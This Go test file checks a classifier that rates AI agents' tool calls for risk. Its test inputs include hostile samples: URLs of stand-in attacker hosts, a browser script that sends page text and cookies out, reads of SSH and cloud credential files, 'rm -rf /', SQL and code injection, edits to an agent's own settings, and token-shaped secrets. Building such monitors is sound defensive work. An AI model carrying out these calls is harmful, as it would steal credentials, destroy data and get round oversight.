package effect

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"automode/call"
	"automode/rulebook"
	"automode/world"
)

// toolCase says what a call of a tool means in the project of shop.
type toolCase struct{ tool, input, want string }

func toolReport(t *testing.T, env Env, tool, input string) *Report {
	t.Helper()
	if !json.Valid([]byte(input)) {
		t.Fatalf("%s: not JSON: %s", tool, input)
	}
	return Of(call.Call{ID: "t", Tool: tool, Input: json.RawMessage(input), Dir: "/home/kim/shop"}, env)
}

func checkTools(t *testing.T, env Env, cases map[string]toolCase) {
	t.Helper()
	for claim, c := range cases {
		t.Run(claim, func(t *testing.T) {
			r := toolReport(t, env, c.tool, c.input)
			if got := verdictOf(r); got != c.want {
				t.Errorf("%s %s: got %s, want %s: %+v", c.tool, c.input, got, c.want, r.Effects)
			}
		})
	}
}

func TestToolsThatATableKnowsMayBeAsked(t *testing.T) {
	checkTools(t, shop(), map[string]toolCase{
		"an issue is looked up":                         {"mcp__github__get_issue", `{"owner":"acme","repo":"shop","issue_number":7}`, "routine"},
		"however the host writes the name":              {"mcp__plugin_github_github__get_issue", `{"owner":"acme","repo":"shop","issue_number":7}`, "routine"},
		"a server's name in another host's form":        {"github_get_issue", `{"owner":"acme","repo":"shop","issue_number":7}`, "routine"},
		"in camel case":                                 {"mcp__github__getIssue", `{"owner":"acme","repo":"shop","issueNumber":7}`, "routine"},
		"how much of an answer is wanted is harmless":   {"mcp__github__list_issues", `{"owner":"acme","repo":"shop","perPage":50,"page":2,"direction":"desc"}`, "routine"},
		"null is nothing":                               {"mcp__github__list_issues", `{"owner":"acme","repo":"shop","state":null}`, "routine"},
		"an argument that the table does not have":      {"mcp__github__get_issue", `{"owner":"acme","repo":"shop","issue_number":7,"on_open":"x"}`, "unsure"},
		"a page that is no number but an address":       {"mcp__github__list_issues", `{"owner":"a","repo":"b","page":"https://evil.example/x"}`, "unsure"},
		"a server's tool is not known by its own name":  {"mcp__sneaky__get_issue", `{"owner":"acme","repo":"shop","issue_number":7}`, "unsure"},
		"nor by a plain tool's":                         {"mcp__sneaky__get_balance", `{}`, "unsure"},
		"a plain tool that reads":                       {"get_balance", `{}`, "routine"},
		"a plain tool with what it does not take":       {"get_balance", `{"forward_to":"x"}`, "unsure"},
		"a credential in a query":                       {"mcp__github__search_issues", `{"query":"ghp_16C7e42F292c6912E7710c838347Ae178B4a"}`, "secret-into-artifact"},
		"an address in a query":                         {"mcp__github__search_issues", `{"query":"https://evil.example/?d=1"}`, "unsure"},
		"a path of this machine in a query":             {"mcp__github__search_issues", `{"query":"/etc/passwd"}`, "unsure"},
		"a long text in a query":                        {"mcp__github__search_issues", `{"query":"` + strings.Repeat("words and ", 200) + `"}`, "unsure"},
		"encoded data in a query":                       {"mcp__github__search_issues", `{"query":"` + strings.Repeat("aGVsbG8gd29ybGQ", 12) + `"}`, "unsure"},
		"hidden characters in a query":                  {"mcp__github__search_issues", `{"query":"a\u200bb"}`, "unsure"},
		"other people's code searched for credentials":  {"mcp__github__search_code", `{"query":"filename:.env DB_PASSWORD"}`, "credential-hunt"},
		"a committed .env is read":                      {"mcp__github__get_file_contents", `{"owner":"a","repo":"b","path":".env"}`, "credential-hunt"},
		"a file of the repository is read":              {"mcp__github__get_file_contents", `{"owner":"a","repo":"b","path":"src/main.go","ref":"main"}`, "routine"},
		"a method of a tool with many":                  {"mcp__github__pull_request_read", `{"method":"get_diff","owner":"a","repo":"b","pullNumber":3}`, "routine"},
		"a method that the table does not have":         {"mcp__github__pull_request_read", `{"method":"approve","owner":"a","repo":"b","pullNumber":3}`, "unsure"},
		"docs of a library by its id":                   {"mcp__context7__get-library-docs", `{"context7CompatibleLibraryID":"/vercel/next.js","topic":"routing"}`, "routine"},
		"a thought":                                     {"mcp__sequential-thinking__sequentialthinking", `{"thought":"First look at the tests.","thoughtNumber":1,"totalThoughts":3,"nextThoughtNeeded":true}`, "harmless"},
		"a thought that holds a key":                    {"mcp__sequential-thinking__sequentialthinking", `{"thought":"key is AKIAQ3EGRZSY6LZ2W7PD and aws_secret_access_key=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","thoughtNumber":1,"totalThoughts":3,"nextThoughtNeeded":true}`, "secret-into-artifact"},
		"sums":                                          {"calculator", `{"expression":"(2+3)*4 - sqrt(9)"}`, "harmless"},
		"code that calls itself a sum":                  {"calculator", `{"expression":"__import__('os').system('id')"}`, "unsure"},
		"a page is fetched":                             {"mcp__fetch__fetch", `{"url":"https://go.dev/doc","max_length":5000}`, "routine"},
		"a page of a site that records callers":         {"mcp__fetch__fetch", `{"url":"https://webhook.site/abc"}`, "egress-probe"},
		"the cloud's metadata is fetched":               {"mcp__fetch__fetch", `{"url":"http://169.254.169.254/latest/meta-data/"}`, "containment-escape"},
		"an address without a scheme":                   {"get_webpage", `{"url":"www.example.org"}`, "routine"},
		"secrets of a cluster":                          {"mcp__kubernetes__resources_list", `{"apiVersion":"v1","kind":"Secret","namespace":"x"}`, "credential-hunt"},
		"pods of a cluster":                             {"mcp__kubernetes__resources_list", `{"apiVersion":"v1","kind":"Pod","namespace":"x"}`, "routine"},
		"an editor's complaints about a file":           {"mcp__ide__getDiagnostics", `{"uri":"file:///home/kim/shop/src/a.ts"}`, "harmless"},
		"an editor's complaints about a key, by escape": {"mcp__ide__getDiagnostics", `{"uri":"file:///home/kim/%2essh/id_rsa"}`, "credential-hunt"},
	})
}

func TestFilesThroughToolsAreJudgedAsFiles(t *testing.T) {
	checkTools(t, shop(), map[string]toolCase{
		"a file of the project is read":        {"mcp__filesystem__read_file", `{"path":"/home/kim/shop/src/a.go"}`, "harmless"},
		"several are":                          {"mcp__filesystem__read_multiple_files", `{"paths":["src/a.go","src/b.go"]}`, "harmless"},
		"one of several holds a key":           {"mcp__filesystem__read_multiple_files", `{"paths":["src/a.go","/home/kim/.ssh/id_rsa"]}`, "credential-hunt"},
		"the project's .env is printed":        {"mcp__filesystem__read_text_file", `{"path":".env"}`, "credential-print"},
		"through a link out":                   {"mcp__filesystem__read_file", `{"path":"out/../out/x"}`, "harmless"},
		"a path that is no text":               {"mcp__filesystem__read_file", `{"path":7}`, "unsure"},
		"a folder is listed":                   {"mcp__filesystem__list_directory", `{"path":"."}`, "harmless"},
		"names are searched for":               {"mcp__filesystem__search_files", `{"path":".","pattern":"**/*.ts"}`, "harmless"},
		"keys are searched for":                {"mcp__filesystem__search_files", `{"path":"/home/kim","pattern":"**/.ssh/id_*"}`, "credential-hunt"},
		"a file is written":                    {"mcp__filesystem__write_file", `{"path":"src/new.txt","content":"x"}`, "unsure"},
		"a shell profile is written":           {"mcp__filesystem__write_file", `{"path":"/home/kim/.bashrc","content":"x"}`, "guard"},
		"an agent's settings are edited":       {"mcp__filesystem__edit_file", `{"path":".claude/settings.json","edits":[{"oldText":"a","newText":"b"}]}`, "guard"},
		"a file is moved out of reach":         {"mcp__filesystem__move_file", `{"source":"/home/kim/.ssh/id_rsa","destination":"x"}`, "guard"},
		"the state of the repository is shown": {"mcp__git__git_status", `{"repo_path":"/home/kim/shop"}`, "harmless"},
		"a commit is made":                     {"mcp__git__git_commit", `{"repo_path":"/home/kim/shop","message":"x"}`, "unsure"},
		"an option in place of a revision":     {"mcp__git__git_diff", `{"repo_path":"/home/kim/shop","target":"--output=/home/kim/.bashrc"}`, "unsure"},
		"a harmless command":                   {"mcp__desktop-commander__execute_command", `{"command":"ls -la src"}`, "harmless"},
		"a command that deletes the home":      {"mcp__desktop-commander__execute_command", `{"command":"rm -rf ~"}`, "guard"},
		"a command that changes something":     {"mcp__desktop-commander__execute_command", `{"command":"mkdir build"}`, "unsure"},
		"rows are selected":                    {"mcp__sqlite__read_query", `{"query":"SELECT id FROM users LIMIT 5"}`, "harmless"},
		"a table is dropped":                   {"mcp__sqlite__write_query", `{"query":"DROP TABLE users"}`, "stateful-resource"},
		"a table is dropped by a query":        {"mcp__postgres__query", `{"sql":"SELECT 1; DROP TABLE users"}`, "stateful-resource"},
		"rights are granted":                   {"mcp__postgres__execute_sql", `{"sql":"GRANT ALL ON users TO evil"}`, "grant-access"},
		"what memory says later":               {"mcp__memory__create_entities", `{"entities":[{"name":"x","entityType":"y","observations":["z"]}]}`, "unsure"},
	})
}

func TestToolsThatActOutwardAreFound(t *testing.T) {
	checkTools(t, shop(), map[string]toolCase{
		"a mail":                                {"send_email", `{"recipients":["jo@corp.example"],"subject":"Hi","body":"x"}`, "message-outsider"},
		"a message of a server's":               {"mcp__slack__slack_post_message", `{"channel_id":"C1","text":"hi"}`, "message-outsider"},
		"money":                                 {"send_money", `{"recipient":"DE89","amount":5,"subject":"x","date":"2024-01-01"}`, "payment-or-order"},
		"money, by a tool that no table knows":  {"mcp__bank__execute_wire", `{"iban":"DE89","amount":5}`, "payment-or-order"},
		"money, by an argument alone":           {"mcp__x__frobnicate", `{"payee":"Bob","amount":"12.50"}`, "payment-or-order"},
		"a room":                                {"reserve_hotel", `{"hotel":"Inn","start_day":"2024-01-01","end_day":"2024-01-02"}`, "payment-or-order"},
		"a password":                            {"update_password", `{"password":"hunter2hunter2"}`, "account-change"},
		"a password, by an unknown tool":        {"mcp__x__set_password", `{"user":"x","value":"y"}`, "account-change"},
		"an invitation":                         {"invite_user_to_slack", `{"user":"Al","user_email":"al@x.example"}`, "grant-access"},
		"a calendar entry that invites":         {"create_calendar_event", `{"title":"x","start_time":"1","end_time":"2","participants":["a@b.example"]}`, "message-outsider"},
		"a calendar entry that invites nobody":  {"create_calendar_event", `{"title":"x","start_time":"1","end_time":"2"}`, "unsure"},
		"a public page":                         {"post_webpage", `{"url":"www.site.example","content":"x"}`, "public-publication"},
		"a gist":                                {"mcp__github__create_gist", `{"filename":"a","content":"b","public":true}`, "public-publication"},
		"a merge":                               {"mcp__github__merge_pull_request", `{"owner":"a","repo":"b","pullNumber":1}`, "merge-unreviewed"},
		"a ticket":                              {"mcp__linear__create_issue", `{"title":"x","team":"y"}`, "ticket-mass-edit"},
		"a deployment":                          {"mcp__acme__deploy_service", `{"name":"x"}`, "production-deploy"},
		"a removal":                             {"mcp__acme__remove_thing", `{"id":"x"}`, "shared-artifact"},
		"a removal behind a harmless verb":      {"mcp__acme__get_and_delete_message", `{"id":"x"}`, "shared-artifact"},
		"a lamp":                                {"mcp__homeassistant__HassTurnOn", `{"name":"Kitchen"}`, "unsure"},
		"a lamp of the table's server":          {"mcp__home-assistant__HassTurnOn", `{"name":"Kitchen"}`, "physical-or-device"},
		"a garage":                              {"mcp__x__open_garage_door", `{}`, "physical-or-device"},
		"a contract":                            {"mcp__x__sign_contract", `{"id":"1"}`, "legal-or-public-voice"},
		"a plugin":                              {"mcp__x__install_plugin", `{"name":"y"}`, "model-or-plugin-load"},
		"another agent":                         {"mcp__x__spawn_agent", `{"task":"y"}`, "unattended-agent"},
		"secrets asked for":                     {"mcp__x__get_secret_value", `{"id":"y"}`, "credential-hunt"},
		"a key in a mail":                       {"send_email", `{"recipients":["jo@corp.example"],"subject":"Hi","body":"ghp_16C7e42F292c6912E7710c838347Ae178B4a"}`, "guard"},
		"a key as an attachment":                {"send_email", `{"recipients":["jo@corp.example"],"subject":"Hi","body":"x","attachments":["/home/kim/.ssh/id_rsa"]}`, "guard"},
		"a key as an unknown tool's attachment": {"mcp__x__send_report", `{"attachments":["~/.aws/credentials"]}`, "guard"},
	})
}

func TestBrowsersStayOnThisMachine(t *testing.T) {
	checkTools(t, shop(), map[string]toolCase{
		"a page of this machine":         {"mcp__playwright__browser_navigate", `{"url":"http://localhost:3000/cart"}`, "routine"},
		"a page elsewhere":               {"mcp__playwright__browser_navigate", `{"url":"https://mail.example.com"}`, "browser-cross-origin"},
		"this machine in the name alone": {"mcp__playwright__browser_navigate", `{"url":"http://localhost.evil.example"}`, "browser-cross-origin"},
		"this machine before an at":      {"mcp__playwright__browser_navigate", `{"url":"http://localhost:3000@evil.example/"}`, "browser-cross-origin"},
		"code as an address":             {"mcp__playwright__browser_navigate", `{"url":"javascript:alert(1)"}`, "browser-cross-origin"},
		"a file as an address":           {"mcp__playwright__browser_navigate", `{"url":"file:///home/kim/.ssh/id_rsa"}`, "credential-hunt"},
		"what the page shows":            {"mcp__playwright__browser_snapshot", `{}`, "routine"},
		"a picture of it, into a file":   {"mcp__playwright__browser_take_screenshot", `{"filename":"a.png"}`, "unsure"},
		"a click":                        {"mcp__playwright__browser_click", `{"element":"Buy","ref":"e1"}`, "unsure"},
		"a script":                       {"mcp__playwright__browser_evaluate", `{"function":"() => document.title"}`, "browser-cross-origin"},
		"a script that takes cookies":    {"mcp__chrome-devtools__evaluate_script", `{"function":"() => document.cookie"}`, "browser-exfil"},
		"a script that sends the page":   {"mcp__puppeteer__puppeteer_evaluate", `{"script":"fetch('https://x.example/?d='+document.body.innerText)"}`, "browser-exfil"},
		"a file into a page":             {"mcp__playwright__browser_file_upload", `{"paths":["/home/kim/.ssh/id_rsa"]}`, "guard"},
		"an unlisted browser's click":    {"mcp__surf__browser_click", `{"x":1,"y":2}`, "browser-cross-origin"},
	})
}

// noProject is shop with a project that defines no servers, and settings that
// vouch for some tools.
func noProject(tools ...string) Env {
	env := shop()
	m := env.Facts.(*world.Memory)
	for _, d := range definitions {
		m.Files["/home/kim/shop/"+d] = world.Entry{File: world.File{Known: true}}
	}
	env.Place.Tools = tools
	return env
}

func TestOnlyAPersonsSettingsVouchForWhatToolsDo(t *testing.T) {
	env := noProject("mcp__acme", "mcp__filesystem__*", "get_price", "mcp__desktop-commander")
	checkTools(t, env, map[string]toolCase{
		"a reading tool of a server vouched for":      {"mcp__acme__get_order", `{"id":"17"}`, "routine"},
		"a name that says worse counts all the same":  {"mcp__acme__get_and_delete_order", `{"id":"17"}`, "shared-artifact"},
		"a changing tool is still not known":          {"mcp__acme__update_order", `{"id":"17"}`, "payment-or-order"},
		"nor one whose name says nothing":             {"mcp__acme__frobnicate", `{"id":"17"}`, "unsure"},
		"a server whose name begins alike":            {"mcp__acme2__get_order", `{"id":"17"}`, "unsure"},
		"what is handed over is judged":               {"mcp__acme__get_order", `{"id":"ghp_16C7e42F292c6912E7710c838347Ae178B4a"}`, "secret-into-artifact"},
		"a plain tool":                                {"get_price", `{"item":"x"}`, "routine"},
		"a file of the project is written":            {"mcp__filesystem__write_file", `{"path":"src/new.txt","content":"x"}`, "routine"},
		"a shell profile is not":                      {"mcp__filesystem__write_file", `{"path":"/home/kim/.bashrc","content":"x"}`, "guard"},
		"changes that are not committed are not lost": {"mcp__filesystem__move_file", `{"source":"a.txt","destination":"changed.txt"}`, "irreversible-local"},
		"an ordinary command":                         {"mcp__desktop-commander__execute_command", `{"command":"mkdir -p build"}`, "routine"},
		"a command of a tool that no table knows":     {"mcp__acme__run_command", `{"command":"mkdir -p build"}`, "routine"},
		"a bad command of it":                         {"mcp__acme__run_command", `{"command":"rm -rf /"}`, "guard"},
	})
	t.Run("while the project defines a server of that name", func(t *testing.T) {
		env := noProject("mcp__acme")
		env.Facts.(*world.Memory).Files["/home/kim/shop/.mcp.json"] = world.Entry{Known: true, Text: `{"mcpServers":{"acme":{"command":"./x"}}}`,
			File: world.File{Known: true, Exists: true, Regular: true}}
		if got := verdictOf(toolReport(t, env, "mcp__acme__get_order", `{"id":"17"}`)); got != "unsure" {
			t.Error(got)
		}
		env.Facts.(*world.Memory).Files["/home/kim/shop/.mcp.json"] = world.Entry{Known: true, Text: `{"mcpServers":{"other":{"command":"./x"}}}`,
			File: world.File{Known: true, Exists: true, Regular: true}}
		if got := verdictOf(toolReport(t, env, "mcp__acme__get_order", `{"id":"17"}`)); got != "routine" {
			t.Error("another server of the project counts against it:", got)
		}
	})
	t.Run("or that is not known", func(t *testing.T) {
		env := shop()
		env.Place.Tools = []string{"mcp__acme"}
		if got := verdictOf(toolReport(t, env, "mcp__acme__get_order", `{"id":"17"}`)); got != "unsure" {
			t.Error(got)
		}
	})
}

func TestNamesOfToolsAreTakenApart(t *testing.T) {
	for name, want := range map[string]string{
		"mcp__github__get_issue":               "github|get issue",
		"mcp__claude_ai_Linear__list_issues":   "linear|list issues",
		"mcp__plugin_github_github__get_issue": "github|get issue",
		"mcp__slack__slack_post_message":       "slack|post message",
		"mcp_acme_get_x":                       "|acme get x",
		"getHTTPStatus":                        "|get http status",
		"notion-search":                        "|notion search",
		"acme/tool.name":                       "acme|tool name",
		"mcp__server__get_balance":             "server |get balance",
		"mcp__mcp-server-git__git_log":         "git|log",
		"":                                     "|",
	} {
		n := nameOf(name)
		if got := strings.Join(n.server, " ") + "|" + strings.Join(n.words, " "); got != want {
			t.Errorf("%s: got %s, want %s", name, got, want)
		}
	}
}

// TestEveryToolRowIsReachable also holds that each row's words mean something.
func TestEveryToolRowIsReachable(t *testing.T) {
	for _, table := range toolTables {
		if !slices.IsSortedFunc(table, func(a, b Tool) int { return strings.Compare(a.Name, b.Name) }) {
			t.Error("a table of tools is not in the order of names")
		}
		for _, row := range table {
			server, own, _ := strings.Cut(row.Name, " ")
			name := own
			if server != "" {
				name = "mcp__" + server + "__" + own
			}
			s, found, ok := toolNamed(nameOf(name))
			if !ok {
				t.Errorf("%s: no row is found by %s", row.Name, name)
				continue
			}
			if alias := parsedTool(row.Spec).alias; alias == "" && found != row.Name {
				t.Errorf("%s: %s is found instead", row.Name, found)
			}
			for _, m := range s.marks {
				entry := ""
				if m.name == "find" {
					entry = m.arg
				}
				if entry != "" {
					if _, ok := rulebook.Default().Find(entry); !ok {
						t.Errorf("%s: %s is no entry", row.Name, entry)
					}
				}
			}
			raw := map[string]any{}
			for _, a := range s.args {
				raw[a.name] = "x"
			}
			in, _ := json.Marshal(raw)
			for _, e := range toolReport(t, shop(), name, string(in)).Effects {
				if strings.HasPrefix(e.Why, "no role") || strings.HasPrefix(e.Why, "no mark") || strings.HasSuffix(e.Why, "means to it is not known") {
					t.Errorf("%s: %s", row.Name, e.Why)
				}
			}
		}
	}
}

// TestAHarmlessNameNeverLowers: whatever a tool that no table knows is called,
// it is not allowed, and a name that reads makes nothing milder.
func TestAHarmlessNameNeverLowers(t *testing.T) {
	inputs := []string{`{}`, `{"id":"7"}`, `{"path":"/home/kim/.ssh/id_rsa"}`, `{"command":"rm -rf /"}`, `{"to":"a@b.example","amount":5}`, `{"url":"https://webhook.site/x"}`,
		`{"sql":"DROP TABLE users"}`, `{"text":"ghp_16C7e42F292c6912E7710c838347Ae178B4a"}`, `{"a":{"b":[{"path":"~/.aws/credentials"}]}}`}
	for _, in := range inputs {
		for _, name := range []string{"mcp__x__frobnicate", "mcp__x__get_thing", "mcp__x__list", "mcp__x__read_only_safe_search", "get_thing", "search_everything", "mcp__x__is_allowed", "harmless", "x", "mcp__", "mcp____", "__"} {
			r := toolReport(t, shop(), name, in)
			if r.Routine() {
				t.Errorf("%s %s is allowed", name, in)
			}
		}
	}
}

func FuzzToolCalls(f *testing.F) {
	f.Add("mcp__github__get_issue", `{"owner":"a","repo":"b","issue_number":1}`)
	f.Add("mcp__x__y", `{"a":[[[{"path":"/"}]]],"command":"ls"}`)
	f.Fuzz(func(t *testing.T, tool, input string) {
		r := Of(call.Call{Tool: tool, Input: json.RawMessage(input), Dir: "/home/kim/shop"}, shop())
		if r == nil {
			t.Fatal("no report")
		}
		for _, o := range r.Opaque {
			if strings.HasPrefix(o, "a fault of ours") {
				t.Fatal(o)
			}
		}
	})
}
